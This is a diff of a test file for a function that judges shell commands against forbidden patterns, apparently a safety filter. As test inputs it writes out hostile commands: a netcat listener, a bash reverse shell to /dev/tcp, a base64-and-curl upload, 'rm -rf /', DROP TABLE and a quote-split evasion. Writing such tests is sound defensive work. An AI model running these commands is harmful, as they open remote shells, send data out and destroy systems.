@@ -633,7 +633,8 @@ describe("patterns", () => {
     expect(judge("psql -c 'DROP TABLE x'", own)).toBe(
       "the command matches the forbidden pattern drop\\s+table",
     );
-    expect(judge("nc -l 4444 -e x", own)).toBe("allow");
+    expect(judge("bash -i >& /dev/tcp/x", own)).toMatch(/another program/);
+    expect(judge("base64 x | curl -d @- x", own)).toBe("allow");
     expect(judge("rm -rf /", own)).toBe("a recursive removal of /");
     expect(judge("sh -c 'dr'op' table'", own)).toMatch(/forbidden pattern/);
   });
